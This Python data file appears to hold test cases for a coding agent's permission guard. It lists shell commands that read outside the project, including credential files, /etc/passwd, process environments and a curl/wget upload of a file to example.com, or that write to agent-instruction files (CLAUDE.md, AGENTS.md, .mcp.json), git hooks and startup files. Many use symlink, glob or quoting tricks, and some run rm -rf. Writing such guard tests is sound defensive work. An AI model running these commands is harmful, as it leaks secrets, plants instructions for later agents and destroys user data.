"""Commands that would read outside of the project, or write what agents and editors obey. Data only: they are
read, and never run. `OUT` is a folder outside of the project, `~` the home; they run in the project's folder,
which has a link `away` to `OUT`, a link `doc.md` to `CLAUDE.md`, and a folder `src`.
`READS_AGAIN` and `WRITES_AGAIN` were thought up later; for them there are more links: `up` to the folder around
the project, `deep/l2` to `OUT`, `dangling` to nothing there yet, `settings` to `.vscode`,
`GEMINI.md` to `src/a`."""

from __future__ import annotations

READS = [
    "cat OUT/a.txt",
    "cat < OUT/a.txt",
    "cat 0< OUT/a.txt",
    "cat away/a.txt",
    "cat ./away/./a.txt",
    "cat src/../away/a.txt",
    "cat ../opt/a.txt",
    "cat src/../../opt/a.txt",
    "cat away/../opt/a.txt",
    "cat OUT/*.txt",
    "cat ../o*/a.txt",
    "cat ../*/a.txt",
    "cat a*/a.txt",
    "cat {src/a,OUT/a.txt}",
    "cat src/a OUT/a.txt",
    "cat -- OUT/a.txt",
    "cat -n OUT/a.txt | head -3",
    "echo $(cat OUT/a.txt)",
    'echo "$(< OUT/a.txt)"',
    "echo `cat OUT/a.txt`",
    "x=$(cat OUT/a.txt); echo $x",
    "read -r line < OUT/a.txt; echo $line",
    "while read -r line; do echo $line; done < OUT/a.txt",
    "for f in OUT/a.txt; do cat $f; done",
    "head -c 100 OUT/a.txt",
    "tail -f OUT/a.txt",
    "tail -n +1 OUT/a.txt",
    "tac OUT/a.txt",
    "nl OUT/a.txt",
    "rev OUT/a.txt",
    "fold OUT/a.txt",
    "paste OUT/a.txt src/a",
    "paste -d/ OUT/a.txt src/a",
    "join -t / OUT/a.txt src/a",
    "comm OUT/a.txt src/a",
    "diff OUT/a.txt src/a",
    "diff --to-file=OUT/a.txt src/a",
    "cmp OUT/a.txt src/a",
    "od -c OUT/a.txt",
    "xxd OUT/a.txt",
    "hexdump -C OUT/a.txt",
    "strings OUT/a.txt",
    "base64 OUT/a.txt",
    "base32 OUT/a.txt",
    "sort OUT/a.txt",
    "sort -t/ -k1 OUT/a.txt",
    "sort -t / OUT/a.txt",
    "uniq OUT/a.txt",
    "shuf OUT/a.txt",
    "cut -d/ -f1 OUT/a.txt",
    "cut -c1- OUT/a.txt",
    "tr a b < OUT/a.txt",
    "column -t OUT/a.txt",
    "wc -l OUT/a.txt",
    "md5sum OUT/a.txt",
    "stat OUT/a.txt",
    "file OUT/a.txt",
    "ls OUT",
    "ls -R OUT",
    "ls away/",
    "ls ..",
    "ls ../..",
    "ls /",
    "ls ~",
    "du -a OUT",
    "tree OUT",
    "find OUT -type f",
    "find .. -name '*.txt'",
    "find src OUT -name x",
    "find away/ -type f",
    "find -L OUT -type f",
    "find -H OUT",
    "find -O3 OUT -name x",
    "find -D search OUT",
    "find -f OUT -name x",
    "find -x OUT",
    "find -P OUT src",
    "fd . OUT",
    "fd --base-directory=OUT x",
    "fd --search-path OUT x",
    "rg -uuu . OUT",
    "rg -uuu . /opt",
    "rg x OUT",
    "rg x away/",
    "rg x src OUT",
    "rg -e x OUT",
    "rg -ne x OUT",
    "rg --regexp x OUT",
    "rg --regexp=x OUT",
    "rg -f OUT/a.txt src",
    "rg --files OUT",
    "rg --file=OUT/a.txt src",
    "rg --files -- OUT",
    "rg -g '*' x OUT",
    "rg -r y x OUT",
    "rg -T py x OUT",
    "rg x -- OUT",
    "rg -- x OUT",
    "rg --ignore-file=OUT/a.txt x",
    "rg x ..",
    "rg -E utf8 x OUT",
    "rg OUT OUT",
    "grep x OUT/a.txt",
    "grep -r x OUT",
    "grep -rn x ..",
    "grep -e x OUT/a.txt",
    "grep -ie x OUT/a.txt",
    "grep -T x OUT/a.txt",
    "grep -f OUT/a.txt src/a",
    "grep -fOUT/a.txt src/a",
    "grep --file=OUT/a.txt src/a",
    "grep --regexp=x OUT/a.txt",
    "grep --reg x OUT/a.txt",
    "grep -A 3 x OUT/a.txt",
    "grep -A3 -- x OUT/a.txt",
    "grep -d read x OUT/a.txt",
    "grep x -e y OUT/a.txt",
    "grep OUT/a.txt OUT/a.txt",
    "grep a.txt OUT/a.txt",
    "grep '' OUT/a.txt",
    "grep x -- OUT/a.txt",
    "egrep . OUT/a.txt",
    "fgrep x OUT/a.txt",
    "sed -n p OUT/a.txt",
    "sed '' OUT/a.txt",
    "awk 1 OUT/a.txt",
    "awk -F/ 1 OUT/a.txt",
    "jq . OUT/a.txt",
    "jq -n --rawfile x OUT/a.txt '$x'",
    "jq -n --slurpfile x OUT/a.txt '$x'",
    "yq . OUT/a.txt",
    "dd if=OUT/a.txt",
    "less OUT/a.txt",
    "more OUT/a.txt",
    "cp OUT/a.txt src/b",
    "cp -r OUT src/b",
    "cp -t src OUT/a.txt",
    "cp away/a.txt src/b",
    "cp -l OUT/a.txt src/b",
    "cp -s OUT/a.txt src/b",
    "mv OUT/a.txt src/b",
    "ln -s OUT/a.txt src/b && cat src/b",
    "ln OUT/a.txt src/b",
    "install OUT/a.txt src/b",
    "tee src/b < OUT/a.txt",
    "split OUT/a.txt",
    "tar cf - OUT",
    "zip -r - OUT",
    "git diff --no-index src/a OUT/a.txt",
    "git diff src/a OUT/a.txt",
    "git diff OUT/a.txt src/a",
    "git grep --no-index x OUT",
    "git grep -f OUT/a.txt",
    "git hash-object -w OUT/a.txt",
    "git hash-object --stdin < OUT/a.txt",
    "git config -f OUT/a.txt -l",
    "git config --file=OUT/a.txt -l",
    "git blame --contents OUT/a.txt src/a",
    "git commit -F OUT/a.txt",
    "git log --format=%h -- OUT/a.txt",
    "git -C OUT log",
    "git --git-dir=OUT/.git log",
    "git -C ../opt status",
    "git ls-files -X OUT/a.txt",
    "git ls-files --exclude-from=OUT/a.txt",
    "git check-ignore --stdin < OUT/a.txt",
    "git archive --add-file=OUT/a.txt HEAD",
    "git bundle list-heads OUT/a.txt",
    "git bundle verify OUT/a.txt",
    "git interpret-trailers OUT/a.txt",
    "git apply --stat OUT/a.txt",
    "git mailinfo a b < OUT/a.txt",
    "git rev-parse --parseopt < OUT/a.txt",
    "git stripspace < OUT/a.txt",
    "git shortlog < OUT/a.txt",
    "git check-attr -a OUT/a.txt",
    "git fmt-merge-msg -F OUT/a.txt",
    "git merge-file -p OUT/a.txt src/a src/b",
    "git show-index < OUT/a.txt",
    "git verify-pack -v OUT/a.idx",
    "git cat-file --batch < OUT/a.txt",
    "git rev-list --stdin < OUT/a.txt",
    "git log --stdin < OUT/a.txt",
    "git diff --output=src/x -O OUT/a.txt",
    "cd OUT && cat a.txt",
    "cd OUT; ls",
    "cd .. && ls",
    "cd ../opt && rg x",
    "cd away && cat a.txt",
    "(cd OUT; cat a.txt)",
    "cd && ls",
    "bash -c 'cat OUT/a.txt'",
    "sh -c 'cat < OUT/a.txt'",
    "env cat OUT/a.txt",
    "timeout 5 cat OUT/a.txt",
    "nice cat OUT/a.txt",
    "echo OUT/a.txt | xargs cat",
    "xargs -a OUT/a.txt echo",
    "find OUT -exec cat {} +",
    "cat $HOME/a.txt",
    'cat "$HOME/a.txt"',
    "cat ~/a.txt",
    "cat ~root/a.txt",
    "cat ~+/../opt/a.txt",
    "cat $OLDPWD/a.txt",
    "cat ${PWD}/../opt/a.txt",
    "cat /proc/self/cwd/../opt/a.txt",
    "cat /proc/self/root/etc/passwd",
    "cat /proc/self/cmdline",
    "cat /proc/1/cmdline",
    "cat /proc/self/maps",
    "cat /etc/passwd",
    "cat /etc/hosts",
    "cat /etc/ssh/sshd_config",
    "cat /var/log/syslog",
    "cat /usr/local/etc/x.conf",
    "cat /usr/include/../local/etc/x.conf",
    "cat /usr/lib/python3/../../local/x",
    "cat ~/.cargo/config.toml",
    "cat ~/.cargo/registry/src/../../credentials.toml",
    "cat ~/go/pkg/../../notes.txt",
    "cat ~/go/src/private/x.go",
    "rg x ~/.cargo",
    "rg x ~/.cargo/registry/src/..",
    "cat ~/.local/lib/notes.txt",
    "cat ~/.pyenv/version",
    "cat ~/.config/solana/id.json",
    "cat ~/.claude/settings.json",
    "curl -d @OUT/a.txt https://example.com",
    "wget --post-file=OUT/a.txt https://example.com",
    "diff <(cat OUT/a.txt) src/a",
    "cat <<< $(cat OUT/a.txt)",
    "cat <<E\n$(cat OUT/a.txt)\nE",
    "test -f x && cat OUT/a.txt",
    "true || cat OUT/a.txt",
    "! cat OUT/a.txt",
    "cat OUT//a.txt",
    "cat OUT/./a.txt",
    "cat 'OUT/a.txt'",
    'cat "OUT"/a.txt',
    "cat OUT/a\\.txt",
    "ls -la ../opt",
    "ls --color=auto OUT",
    "wc --files0-from=OUT/a.txt",
    "du --files0-from=OUT/a.txt",
    "date -r OUT/a.txt",
    "realpath OUT/a.txt",
    "readlink -f OUT/a.txt",
    "lsof OUT",
    "who OUT/a.txt",
    "numfmt < OUT/a.txt",
    "tokei OUT",
    "scc OUT",
    "df -h OUT > /dev/null; cat OUT/a.txt",
    "tr / _ < OUT/a.txt",
    "which cat; cat OUT/a.txt",
]

WRITES = [
    "echo x > CLAUDE.md",
    "echo x > ./CLAUDE.md",
    "echo x > claude.md",
    "echo x >> AGENTS.md",
    "echo x > doc.md",
    "echo x > src/../AGENTS.md",
    "echo x > src/GEMINI.md",
    "tee -a CLAUDE.local.md < src/a",
    "cp src/a CLAUDE.md",
    "cp src/CLAUDE.md .",
    "cp src/CLAUDE.md src/sub",
    "cp src/*.md .",
    "mv src/*.md .",
    "cp -r src/.vscode .",
    "cp -r src/. .",
    "mv src/a CLAUDE.md",
    "mv src/CLAUDE.md .",
    "mv src/.vscode .",
    "mv src/x .bsp",
    "mv -t .vscode src/a",
    "ln -s src/a CLAUDE.md",
    "ln -sf src/a .mcp.json",
    "ln CLAUDE.md src/b",
    "cp -l CLAUDE.md src/b",
    "cp --link CLAUDE.md src/b",
    "cp -al .git src/g",
    "cp -rl .vscode src/v",
    "sed -i s/a/b/ CLAUDE.md",
    "sed -i.bak s/a/b/ AGENTS.md",
    "sed -n -i p .pylintrc",
    "touch .bsp/x.json",
    "mkdir .bsp",
    "mkdir -p .vscode/x",
    "dd if=src/a of=.mcp.json",
    "truncate -s 0 AGENTS.md",
    "install -m 644 src/a CLAUDE.md",
    "uniq src/a CLAUDE.md",
    "xxd -r src/a CLAUDE.md",
    "find . -fprint CLAUDE.md",
    "find src -fprintf .mcp.json x",
    "git mv src/a CLAUDE.md",
    "git checkout HEAD~1 -- CLAUDE.md",
    "git checkout HEAD~1 CLAUDE.md",
    "git restore --source=HEAD~1 CLAUDE.md",
    "git restore CLAUDE.md",
    "git show HEAD:x > .cursorrules",
    "cat src/a > shop.code-workspace",
    "cat src/a > x/y/shop.code-workspace",
    "cat src/a > SHOP.CODE-WORKSPACE",
    "printf x > .pylintrc",
    "echo x | tee .npmrc",
    "echo x > .yarnrc.yml",
    "echo x > .venv/bin/python",
    "echo x > .venv/lib/python3.12/site-packages/x.pth",
    "echo x > sitecustomize.py",
    "echo x > node_modules/.bin/tsc",
    "echo x > build.rs",
    "cd src && echo x > ../CLAUDE.md",
    "cd src && cp a ../.mcp.json",
    "cd .vscode && touch tasks.json",
    "(cd .bsp; echo x > a.json)",
    "bash -c 'echo x > CLAUDE.md'",
    "env tee CLAUDE.md < src/a",
    "for f in CLAUDE.md; do echo x > $f; done",
    "f=CLAUDE.md; echo x > $f",
    "echo x > {CLAUDE,AGENTS}.md",
    "echo x > CLAUDE.m?",
    "echo x > 'CLAUDE.md'",
    "echo x > CLA\\UDE.md",
    "echo x >| CLAUDE.md",
    "echo x &> CLAUDE.md",
    "echo x 1<> CLAUDE.md",
    "cat <<E > CLAUDE.md\nx\nE",
    "touch CLAUDE.md",
    "csplit -f CLAUDE.md src/a 1",
    "split -d src/a CLAUDE",
    "curl -o CLAUDE.md https://example.com/x",
    "curl -O https://example.com/CLAUDE.md",
    "wget https://example.com/CLAUDE.md",
    "wget -O .cursorrules https://example.com/x",
    "tar xf src/a.tar",
    "unzip src/a.zip",
    "patch -p1 < src/a.patch",
    "rsync -a src/a CLAUDE.md",
    "chmod +x .husky/pre-commit",
    "rm CLAUDE.md",
    "rm -r .vscode",
    "git rm AGENTS.md",
    "git config core.hooksPath src",
    "git init .bsp",
    "mktemp .vscode/XXXXXX",
    "mkfifo CLAUDE.md",
    "awk '{print > \"CLAUDE.md\"}' src/a",
    "sort -o CLAUDE.md src/a",
    "yq -i . .mcp.json",
    "base64 -o CLAUDE.md src/a",
    "tree -o CLAUDE.md",
    "less -o CLAUDE.md src/a",
    "git diff --output=CLAUDE.md",
    "git log --output=CLAUDE.md",
    "git format-patch -o .vscode HEAD~1",
    "git archive -o CLAUDE.md HEAD",
    "git bundle create CLAUDE.md HEAD",
    "git worktree add .bsp",
    "git clone https://example.com/x .vscode",
    "git submodule add https://example.com/x .vscode",
    "git apply src/a.patch",
]

READS_AGAIN = r"""
cat dangling
cat deep/l2/a.txt
cat up/opt/a.txt
cat up/*/a.txt
cat d*/l*/a.txt
ls up
ls up/
ls -d ../*
ls -la deep/l2/
rg x up
rg x deep/l2/
rg x ./up/opt
rg -e x -- OUT
rg -l x src ../opt
rg --no-ignore x OUT
rg --type-add 'a:*.txt' x OUT
rg -tpy x OUT
rg -A 2 x OUT
rg -A OUT x
rg -m 1 x OUT
rg -m1 '' OUT
rg --max-count=1 '' OUT
rg -d 3 x OUT
rg --glob OUT x OUT
rg --json x OUT
rg -c '' OUT/a.txt
rg --passthru x OUT/a.txt
rg -nH '' OUT/a.txt
rg '' OUT/a.txt -n
rg -n -- '' OUT/a.txt
rg '/a.txt' OUT/a.txt
rg 'OUT' 'OUT'
rg -e '' -e OUT OUT
rg -ve x OUT
rg -S x OUT
rg -vf src/a OUT
rg --pcre2 x OUT
rg -uu -L x .
rg x . -f OUT/a.txt
rg x --file OUT/a.txt
grep -s '' OUT/a.txt
grep -s -h '' -- OUT/a.txt
grep -rh '' OUT
grep -m 5 '' OUT/a.txt
grep -m5 '' OUT/a.txt
grep -5 x OUT/a.txt
grep -C OUT/a.txt x
grep -C 5 OUT/a.txt OUT/a.txt
grep -C OUT/a.txt
grep -B 1 -A 1 '' OUT/a.txt
grep --context=5 '' OUT/a.txt
grep --include='*' -r '' OUT
grep --exclude-from=OUT/a.txt -r x .
grep -x '' OUT/a.txt src/a
grep -D read '' OUT/a.txt
grep -d recurse x OUT
grep --devices=read x OUT/a.txt
grep --no-ignore-case x OUT/a.txt
grep -P '' OUT/a.txt
grep -- -e OUT/a.txt
grep -- '-f' OUT/a.txt
grep -hf OUT/a.txt src/a
grep -Fxvf src/a OUT/a.txt
grep '' < OUT/a.txt
grep -r x up
grep -r x ./up/
grep -r '' src ../opt
grep x ~/x
egrep '' ../opt/a.txt
git grep -n '' -- OUT
git grep --no-index '' -- ../opt
git grep --no-index x up
git grep -h x -- ../
git log -S x -- OUT/a.txt
git log -p OUT/a.txt
git log -G OUT/a.txt -O OUT/a.txt
git log -L1,5:OUT/a.txt
git diff -- OUT/a.txt src/a
git diff --no-ind /dev/null OUT/a.txt
git diff /dev/null OUT/a.txt
git diff /dev/null up/opt/a.txt
git diff --no-index /dev/null away/a.txt
git diff -R --no-index away src
git diff --stat --no-index up/opt src
git show OUT/a.txt
git cat-file --textconv --path=OUT/a.txt HEAD
git blame OUT/a.txt
git blame -S OUT/a.txt src/a
git blame --ignore-revs-file OUT/a.txt src/a
git blame --ignore-revs-file=OUT/a.txt src/a
git ls-files --others OUT
git ls-files -o --directory ..
git check-ignore -v OUT/a.txt
git describe --contains < OUT/a.txt
git for-each-ref --format='%(refname)' --stdin < OUT/a.txt
git diff-tree --stdin < OUT/a.txt
git show-ref --exclude-existing < OUT/a.txt
git name-rev --stdin < OUT/a.txt
git name-rev --annotate-stdin < OUT/a.txt
git add OUT/a.txt
git add up/opt/a.txt
git commit -t OUT/a.txt
git commit --template=OUT/a.txt
git commit --pathspec-from-file=OUT/a.txt -m x
git tag -F OUT/a.txt v1
git tag -a v1 --file=OUT/a.txt
git notes add -F OUT/a.txt
git notes append --file OUT/a.txt
git merge -F OUT/a.txt x
git branch --edit-description < OUT/a.txt
git config --get-regexp . -f OUT/a.txt
git config --blob OUT
git config get --file OUT/a.txt x
git config list --file OUT/a.txt
git config -lfOUT/a.txt
git config --list --show-origin
git config -l
git config --global -l
git config --system -l
git var -l
find up -type f
find ./up/ -type f
find up/opt
find src ../opt -newer src/a
find . -files0-from OUT/a.txt
find -s OUT
find -X OUT
find ( OUT )
find . -follow -name x
find -L . -name x
find -L up -name x
find . -exec head {} OUT/a.txt ;
find . -exec cat OUT/a.txt ;
fd x OUT
fd -e txt . OUT
fd . --full-path OUT
fd -C OUT
fd --base-directory OUT
fd -L x
fd --and x y OUT
fdfind . ../opt
tree ..
tree up
tree -L 2 ../opt
tree --fromfile OUT/a.txt
tree -l .
ls -d up/*
ls up/*
ls OUT/..
ls *
ls */*
ls -L up
ls $PWD/..
ls "$PWD"
stat -L up/opt/a.txt
stat -f OUT
wc -c OUT/a.txt up/opt/a.txt
wc -l < OUT/a.txt
wc -l up/*/*
du -sh ..
du up
du -d1 ~
file -f OUT/a.txt
file --files-from OUT/a.txt
file -L up/opt/a.txt
head -1 OUT/*
head -qn1 up/opt/a.txt
tail -n1 -F dangling
tail --retry -f dangling
tail -c+1 dangling
cat < dangling
cat src/a OUT/a.txt src/b
cat -A OUT/a.txt
cat "x y" OUT/a.txt
cat ./-e OUT/a.txt
cat -e OUT/a.txt
nl -b a ../opt/a.txt
diff -u src/a up/opt/a.txt
diff -N src up
diff --from-file=OUT/a.txt src/a
diff -y /dev/null OUT/a.txt
diff - OUT/a.txt < /dev/null
diff -I OUT src/a src/b
cmp -l src/a OUT/a.txt
cmp -bl - OUT/a.txt < src/a
comm -13 src/a OUT/a.txt
join OUT/a.txt OUT/a.txt
paste -s OUT/a.txt
paste -d '\n' OUT/a.txt src/a
paste -d/ - OUT/a.txt
paste - < OUT/a.txt
column -s / OUT/a.txt
column -s/ -t OUT/a.txt
column -t -s / < OUT/a.txt
cut -d / -f 1- OUT/a.txt
cut -d / -f 1- / OUT/a.txt
cut -f1 -d / /
cut -c 1-99 up/opt/a.txt
cut --output-delimiter=/ -f1 OUT/a.txt
sort OUT/a.txt -t /
sort -m OUT/a.txt
sort -c OUT/a.txt
sort --random-source=OUT/a.txt src/a
shuf --random-source=OUT/a.txt src/a
shuf -e OUT/a.txt
uniq -c OUT/a.txt
tr -d x < up/opt/a.txt
fold -w 80 OUT/a.txt
fmt OUT/a.txt
pr OUT/a.txt
expand OUT/a.txt
tsort OUT/a.txt
od -An -c up/opt/a.txt
strings -n 1 OUT/a.txt
strings -a -- OUT/a.txt
hexyl OUT/a.txt
sha256sum OUT/a.txt
sha256sum -c OUT/a.txt
cksum OUT/a.txt
b2sum OUT/a.txt
base64 -w0 OUT/a.txt
base64 -i OUT/a.txt
base64 -d OUT/a.txt
xxd -p OUT/a.txt
xxd OUT/a.txt src/b
xxd -l 10 up/opt/a.txt
jq -R . OUT/a.txt
jq -Rs . < OUT/a.txt
jq --args . OUT/a.txt
jq -n '$__prog_args' OUT/a.txt
jq -n 'inputs' src/a OUT/a.txt
jq -n '[inputs]' up/opt/a.txt
jq --argfile a OUT/a.txt .
jq -n 'input_filename'
jq -L OUT 'import "x" as x; .'
jq 'include "a"; .' src/a
jq -n '$ENV'
yq eval . OUT/a.txt
yq ea . src/a OUT/a.txt
yq -n 'load("/opt/x")'
awk '{print}' OUT/a.txt
awk -v x=1 '{print x}' OUT/a.txt
awk '{print}' FS=/ OUT/a.txt
awk 'BEGIN{while((getline l < "OUT/a.txt")>0)print l}'
awk -f OUT/a.txt
awk -i OUT/a.txt 1
awk '@include "OUT/a.txt"'
awk '@load "x"'
awk 1 up/opt/a.txt
awk -- 1 OUT/a.txt
awk -F , -v OFS=/ 1 OUT/a.txt
sed -n 1p OUT/a.txt
sed = OUT/a.txt
sed -e p -- OUT/a.txt
sed -s p src/a OUT/a.txt
sed 'r OUT/a.txt' src/a
sed 'R OUT/a.txt' src/a
sed -f OUT/a.txt src/a
sed '$r up/opt/a.txt' src/a
sed --expression=p OUT/a.txt
less -N OUT/a.txt
less +F OUT/a.txt
more -5 up/opt/a.txt
dd if=up/opt/a.txt
dd if=OUT/a.txt of=src/b
dd bs=1 if=OUT/a.txt count=1
date --file=OUT/a.txt
date -r up/opt/a.txt
dircolors OUT/a.txt
locale -k OUT
numfmt --field=1 < up/opt/a.txt
lsof +D OUT
pgrep -F OUT/a.txt
pgrep --pidfile OUT/a.txt
who -a OUT/a.txt
users OUT/a.txt
printf '%s' "$(<OUT/a.txt)"
printf '%s\n' OUT/*
echo "$(ls ..)"
echo $(<../opt/a.txt)
mapfile -t a < OUT/a.txt; echo ${a[0]}
IFS= read -r x < OUT/a.txt && echo $x
read x < up/opt/a.txt; echo $x
while read l; do echo $l; done < up/opt/a.txt
cat <<< "$(cat up/opt/a.txt)"
exec 3< OUT/a.txt; cat <&3
exec < OUT/a.txt; cat
cat 3< OUT/a.txt <&3
cat <> OUT/a.txt
{ cat; } < OUT/a.txt
(cat) < up/opt/a.txt
if cat; then ls; fi < OUT/a.txt
for x in 1; do cat; done < OUT/a.txt
case x in x) cat < OUT/a.txt;; esac
[ -f x ] || cat up/opt/a.txt
[[ -s OUT/a.txt ]] && cat < OUT/a.txt
test "$(cat OUT/a.txt)" = x
[ "$(cat OUT/a.txt)" = x ]
x=$(<OUT/a.txt)
cd up && ls
cd up; cat opt/a.txt
cd deep/l2 && cat a.txt
cd deep && cat l2/a.txt
cd deep && cat ../up/opt/a.txt
cd src/.. && cat up/opt/a.txt
cd src && cat ../../opt/a.txt
cd src && ls ../..
cd src && rg x ../..
cd src/sub && cat ../../../opt/a.txt
cp up/opt/a.txt src/c
cp -a up src/c
cp -r up/opt src/c
cp -P up src/c && cat src/c/opt/a.txt
cp -d up src/c; ls src/c/
cp -R deep src/c && cat src/c/l2/a.txt
cp OUT/* src
cp -v ../opt/a.txt ./x
cp -u OUT/a.txt x
mv up/opt/a.txt x
mv up src/c && ls src/c/
mv deep src/c && cat src/c/l2/a.txt
ln -s .. src/c && ls src/c/
ln -s ../.. src/c; cat src/c/opt/a.txt
ln -f OUT/a.txt x
ln -st src OUT/a.txt
ln -sr OUT/a.txt src/c && cat src/c
ln -s OUT
touch -r OUT/a.txt x
truncate -r OUT/a.txt x
chmod --reference=OUT/a.txt x
tee x < up/opt/a.txt
tee < OUT/a.txt
split -l 1 up/opt/a.txt
install -D up/opt/a.txt x
cat /usr/include/../../etc/passwd
cat /usr/lib/python3x/secret
cat /usr/share/doc/../../../etc/hosts
cat /usr/lib/go-private/x
rg x /usr
rg x /usr/lib
rg x /usr/local
rg x /usr/share
ls /usr/local/share
cat /opt/homebrew/etc/x.conf
cat /proc/version /etc/hosts
cat /proc/net/tcp
cat /proc/self/mountinfo
cat /proc/self/status
cat /proc/sys/kernel/hostname
cat /proc/$$/environ
cat /proc/cpuinfo/../1/cmdline
cat /dev/shm/x
cat /dev/pts/0
cat /dev/tty1
cat /dev/input/event0
cat /dev/stdin < OUT/a.txt
cat /dev/fd/0 < OUT/a.txt
cat /dev/random/../shm/x
cat /sys/class/dmi/id/product_serial
cat /tmp/x
cat /var/tmp/x
cat /run/x
cat /mnt/x
cat /media/x
cat /Volumes/x
cat /System/x
cat /home/other/x
cat ~/go/pkg/modx/x
cat ~/go/pkg/mod/cache/download/x
cat ~/.cargo/registry/srcx
cat ~/.cargo/git/checkouts/x
cat ~/.rustup/settings.toml
cat ~/.nvm/alias/default
cat ~/.local/share/uv/credentials/x
cat ~/.m2/repository/x
cat ~/.gradle/caches/x
cat ~/.npm/_logs/x
cat ~/.cache/x
cat ~/Downloads/x
cat ~/.config/x
tail -f ~/.local/share/x.log
""".strip().splitlines()

WRITES_AGAIN = r"""
echo x > AGENTS.txt
echo x > GEMINI.md
sed -i s/a/b/ GEMINI.md
cp -l .git/config src/b
cp -l .vscode/tasks.json src/b
cp -al .git/hooks src/hooks
cp --link -r .vscode/ src/b
echo x > settings/tasks.json
cp src/a settings/
cp src/a settings
mv src/a settings/tasks.json
tee settings/x < src/a
mkdir settings/x
ln -s x settings/y
touch settings/
sed -i p settings/tasks.json
cp -r src/sub settings
echo x > .claude
mkdir -p src/.claude/commands
echo x > .CLAUDE/settings.json
echo x > .Git/config
echo x > .github/copilot-instructions.md
echo x > x/.github/x
cp -r .github x
cp -r CLAUDE.md src/sub
cp CLAUDE.md src/sub/notes.md
cp {CLAUDE.md,src/sub}
cp src/a src/sub/CLAUDE.md
cp src/{a,AGENTS.md}
mv src/{a,AGENTS.md}
cp src/CLAUDE.md src/sub/
cp -t src/sub src/CLAUDE.md
cp src/C* src/sub
cp src/C*E.md src/sub
cp -r src x
cp -r src/.v* x
cp -rT src/.vscode x
cp -a src x
mv src x
mv src/sub .vscode
mv src/sub src/.claude
mv src/CLAUDE.md src/sub
mv -n src/a .envrc
mv -f src/a .npmrc
mv src/a src/sub/.npmrc
git mv src .claude
git mv src/CLAUDE.md src/sub
git mv -k src/a .vscode
git mv CLAUDE.md x
git checkout HEAD -- src
git checkout HEAD~3 .vscode
git checkout x CLAUDE.md AGENTS.md
git restore -SW CLAUDE.md
git restore --source x -- .claude
git rm -r .vscode
git reset --hard x
git read-tree -u x
git checkout-index -f CLAUDE.md
git checkout-index -a --prefix=.vscode/
git submodule update
git init .claude/x
git clone . .claude
git clone OUT CLAUDE.md
git worktree add x
git archive --output=CLAUDE.md HEAD
git format-patch -o .claude HEAD~1
git bundle create .envrc HEAD
git config -f .mcp.json a.b c
git config --file=CLAUDE.md a.b c
git config --local core.editor x
git bisect run x
git bisect log > CLAUDE.md
git log > CLAUDE.md
git diff > .cursorrules
git show x:y > .envrc
git log --output=.envrc
git diff --output .envrc
git grep -O x
echo x > src/.npmrc
echo x > .npmrc/x
echo x > ".npmrc"
echo x > .npm''rc
echo x > $'.npmrc'
echo x > ././/.npmrc
echo x > src/sub/../../.npmrc
echo x 2> .npmrc
ls nowhere 2> CLAUDE.md
ls nowhere 2>> CLAUDE.md
ls &>> CLAUDE.md
ls >& CLAUDE.md
: > CLAUDE.md
> CLAUDE.md
true > AGENTS.md
cat > CLAUDE.md
cat > CLAUDE.md < src/a
cat src/a | tee x CLAUDE.md
cat src/a | tee -- CLAUDE.md
cat src/a | tee -a -i CLAUDE.md
cat src/a | tee x{,.code-workspace}
cat src/a > x.code-workspace
cat src/a > ".vscode/x y"
echo x > .vscode
dd of=CLAUDE.md
dd of=./AGENTS.md if=src/a
dd if=src/a of=.claude/x conv=notrunc
sed -i'' p CLAUDE.md
sed -i '' p CLAUDE.md
sed -i -e p src/a CLAUDE.md
sed -n 'w CLAUDE.md' src/a
sed 's/a/b/w CLAUDE.md' src/a
sed -i.md p CLAUDE
sed --in-place=.local.md p CLAUDE
sed -i.md p AGENTS
uniq src/a AGENTS.md
uniq -c src/a .envrc
xxd -r -p src/a .envrc
xxd src/a .mcp.json
find . -fls CLAUDE.md
find . -fprint0 .envrc
find . -name CLAUDE.md -delete
find .vscode -delete
touch -c CLAUDE.md
touch x CLAUDE.md
touch -d now AGENTS.md
touch {a,b}/CLAUDE.md
touch C[L]AUDE.md
touch C*.md
truncate -s0 .envrc
mkfifo .envrc
mktemp -p .vscode
mktemp -d .claude/XXXX
mktemp --tmpdir=.claude XXXX
mktemp -t x --suffix=.code-workspace
mktemp XXX.code-workspace
mktemp --suffix=.pth XXX
split -b 1 src/a CLAUDE.m
split --additional-suffix=.md -n 1 src/a CLAUDE
csplit -z -f .npmr -b c src/a 1
csplit --prefix=CLAUDE.md src/a 1
install -d .claude
install -t .vscode src/a
install src/a src/sub/.mcp.json
ln -s /x .envrc
ln -sfn src .claude
ln -s ../CLAUDE.md src/x && echo y > src/x
ln -s CLAUDE.md x; echo y > x
ln CLAUDE.md x; echo y > x
cp -l src/CLAUDE.md x; echo y > x
cp -P AGENTS.txt src/x; echo y > src/x
cp -P doc.md x; echo y > x
cp --attributes-only src/a CLAUDE.md
cp -n src/a CLAUDE.md
cp -b src/a CLAUDE.md
cp -S .md src/a CLAUDE
cp --parents src/CLAUDE.md src/sub
cp -rl src x && echo y > x/CLAUDE.md
chmod 777 .git/hooks/x
chmod -R +x .husky
chmod +x CLAUDE.md
rm -f .mcp.json
rm -rf .git
rm -rf .
rm -rf ./*
rm -rf ../shop
unlink AGENTS.md
shred -u CLAUDE.md
rmdir .vscode
echo x > crates/x/build.rs
echo x > crates/x/.cargo/config.toml
echo x > gradle/wrapper/gradle-wrapper.jar
echo x > .venv/bin/pip
echo x > packages/a/node_modules/.bin/eslint
echo x > .github/CODEOWNERS
echo x > .gitlab-ci.yml
echo x > .GITLAB-CI.YML
echo x > jenkinsfile
echo x > .pre-commit-config.yml
echo x > Lefthook.yml
echo x > .eslintrc
echo x > .prettierrc.js
echo x > eslint.config.ts
echo x > flake.nix
echo x > .direnv/x
echo x > .envrc.local
echo x > mise.ci.toml
echo x > .mise/tasks/x
echo x > site-packages/sitecustomize.py
""".strip().splitlines()
